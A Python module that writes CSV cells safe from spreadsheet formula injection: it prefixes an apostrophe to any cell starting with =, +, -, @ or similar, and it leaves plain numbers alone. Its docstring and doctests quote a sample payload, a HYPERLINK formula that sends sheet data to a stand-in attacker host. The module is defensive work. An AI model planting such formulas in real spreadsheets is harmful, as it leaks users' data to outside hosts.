"""Tables for people's spreadsheets: every cell safe to open, written as CSV (and, later, XLSX).

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, or the
full-width forms of those signs) is run as a formula by Excel, LibreOffice and Google Sheets:
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` in a lead's name would leak data from the sheet
or worse (OWASP, "CSV Injection"). Such a cell is written with a leading apostrophe, so that it is
read as the text it is (some programs show the apostrophe). Numbers stay numbers: a value that is a number
(``int``, ``Decimal``, ``float``) or text that is exactly one plain number (``-12.5``, ``3E+2``) is
written as it is.

>>> cell_text('=HYPERLINK("https://evil.example","x")')
'\\'=HYPERLINK("https://evil.example","x")'
>>> cell_text("-12.50"), cell_text(Decimal("-3")), cell_text("-1+2"), cell_text(None)
('-12.50', '-3', "'-1+2", '')
>>> tabular_csv(["name", "amount"], [["@SUM(A1)", Decimal("1.5")], {"name": "Ann"}]).splitlines()
['name,amount', "'@SUM(A1),1.5", 'Ann,']
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from decimal import Decimal
from typing import Any

__all__ = ["FORMULA_STARTS", "cell_text", "tabular_cells", "tabular_csv"]

#: First characters that make a spreadsheet read a cell as a formula (ASCII and full-width).
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cell_text(value: Any) -> str:
    """The text of one cell, neutralised when a spreadsheet would run it as a formula."""
    if value is None:
        return ""
    if isinstance(value, int | Decimal | float):  # bool too: True, False
        return str(value)
    text = str(value)
    if text and text[0] in FORMULA_STARTS and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def tabular_cells(
    header: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]
) -> Iterator[list[str]]:
    """The header and each row as safe cell texts; a mapping row is read by the header's names (a name
    it lacks is an empty cell), a sequence row in order."""
    yield [cell_text(name) for name in header]
    for row in rows:
        if isinstance(row, Mapping):
            yield [cell_text(row.get(name)) for name in header]
        else:
            yield [cell_text(value) for value in row]


def tabular_csv(header: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]]) -> str:
    """A CSV text (RFC 4180: commas, quotes doubled, CRLF line ends, a cell with a line break quoted)
    of safe cells."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows(tabular_cells(header, rows))
    return out.getvalue()
